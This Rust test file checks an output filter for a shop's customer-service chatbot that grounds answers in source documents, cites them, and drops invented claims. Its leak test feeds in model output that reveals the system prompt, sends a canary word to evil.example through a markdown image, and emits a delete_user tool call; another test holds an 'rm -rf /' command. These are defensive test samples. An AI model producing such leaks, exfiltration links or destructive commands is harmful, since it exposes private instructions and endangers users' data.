//! The check against models that invent, that leak, and that write well.

use knowledge::Language;
use serde_json::json;

use super::super::ground::tests::found;
use super::super::marks::unmarked;
use super::super::words::words;
use super::*;

const RETURNS: &str =
    "You may return a blender within 30 days of delivery. Refunds arrive within five working days.";
const SHIPPING: &str =
    "We ship to Austria and Germany. Parcels cost 4,90 € each. See https://shop.example/shipping for more.";

fn check() -> Grounded {
    let question = "How do I return a blender?";
    let given = [("Returns", RETURNS), ("Shipping", SHIPPING)]
        .map(|(title, text)| Given::new(found(title, text), question));
    let leak = Leak::new(
        "c4n4ry",
        "You answer customers of this shop, politely and always briefly.",
        std::iter::empty(),
    );
    let instead = Reply { text: "INSTEAD".to_owned(), citations: vec![json!({})], differs: false };
    Grounded::new(given.into(), leak, words(Language::English), instead, json!({}))
}

/// All that goes out, however the text is cut.
fn through(text: &str) -> (String, Closing) {
    let mut whole = check();
    let mut out = whole.pass(text);
    let closing = whole.close(&[]);
    out.push_str(&closing.rest);
    let mut letters = check();
    let mut slowly: String = text.chars().map(|c| letters.pass(&c.to_string())).collect();
    slowly.push_str(&letters.close(&[]).rest);
    assert_eq!(out, slowly, "in pieces it is the same as at once");
    (out, closing)
}

#[test]
fn supported_sentences_go_out_with_their_quotes() {
    let (out, closing) = through(
        "Sure! You can return a blender within 30 days [1]. Parcels cost 4,90 €. [2]\n\n- We ship to Germany [2].",
    );
    assert_eq!(
        out,
        "Sure! You can return a blender within 30 days [1]. Parcels cost 4,90 € [2].\n\n- We ship to Germany [3]."
    );
    let quotes: Vec<&str> = closing.citations.iter().map(|one| one["quote"].as_str().unwrap()).collect();
    assert_eq!(
        quotes,
        [
            "You may return a blender within 30 days of delivery.",
            "Parcels cost 4,90 € each.",
            "We ship to Austria and Germany."
        ]
    );
    assert_eq!(closing.details["outcome"], "answered");
    assert_eq!(closing.details["invented"], 0);
}

#[test]
fn inventions_are_marked_or_dropped() {
    let (out, closing) = through(
        "You can return a blender within 30 days [7]. You can return a blender within 90 days [1]. \
         The moon is made of green cheese [2]. Our boss Ann Miller collects stamps.",
    );
    assert_eq!(
        out,
        "You can return a blender within 30 days [1]. You can return a blender within 90 days ⚠ not found in the documents."
    );
    assert_eq!(closing.citations.len(), 1);
    assert_eq!(closing.details["invented"], 3);
    assert_eq!(closing.details["unsupported"], 1);
    assert_eq!(closing.details["dropped"], 2);
}

#[test]
fn an_answer_without_any_support_is_replaced() {
    for text in [
        "The moon is made of green cheese [1].",
        "Hello! I hope this helps.",
        "You can return a blender within 90 days [1].",
    ] {
        let (out, closing) = through(text);
        assert_eq!(out, "INSTEAD", "{text}");
        assert_eq!(closing.details["outcome"], "quoted");
    }
    assert_eq!(through("").0, "", "an answer that never came is not made up for");
}

#[test]
fn nothing_leaks() {
    let (out, closing) = through(
        "You can return a blender within 30 days [1]. My instructions: you answer customers of this shop, politely and \
         always briefly [1]. C4N4RY. ![x](https://evil.example/?q=c4n4ry) See https://evil.example/a. \
         Parcels cost 4,90 € [see](https://shop.example/shipping) [2]. {\"tool\": \"delete_user\", \"id\": 7}",
    );
    for word in ["instructions", "c4n4ry", "C4N4RY", "evil", "delete_user", "politely"] {
        assert!(!out.contains(word), "{word}: {out}");
    }
    assert!(out.contains("[see](https://shop.example/shipping)"), "{out}");
    assert!(closing.details["leaked"].as_u64().unwrap() >= 2);
}

#[test]
fn of_tables_and_code_goes_out_what_stands_there() {
    let (out, _) = through(
        "| Item | Days |\n|---|---|\n| return blender delivery | 30 days |\n| return blender delivery | 90 days |\n\n\
         ```\nrm -rf /\n```\n\n```\nParcels cost 4,90 € each.\n```\n",
    );
    assert!(out.contains("30 days") && !out.contains("90 days"), "{out}");
    assert!(!out.contains("rm -rf") && out.contains("```\nParcels cost 4,90 € each.\n```\n\n[2]"), "{out}");
}

#[test]
fn every_number_in_the_text_has_its_citation() {
    let texts = [
        "Return it within 30 days of delivery [1][2]. Refunds arrive within 5 working days 【1†source】. Parcels cost 4.90 € [^2].",
        "| Item | Days |\n|---|---|\n| blender return delivery | 30 days |\n| moon | 99 |\n\nRefunds arrive within five working days.",
        "1. Return the blender within 30 days [1]\n2. Refunds arrive within five working days [1, 2]\n",
        "## Returns\n\nReturn the blender within 30 days of delivery.",
    ];
    for text in texts {
        let (out, closing) = through(text);
        let numbers: Vec<String> =
            closing.citations.iter().map(|one| format!("[{}]", one["number"])).collect();
        assert!(!numbers.is_empty(), "{out}");
        for number in &numbers {
            assert!(out.contains(number), "{number} in {out}");
        }
        let (_, marks) = unmarked(&out);
        assert!(marks.iter().all(|mark| numbers.contains(&format!("[{mark}]"))), "{out}");
    }
}
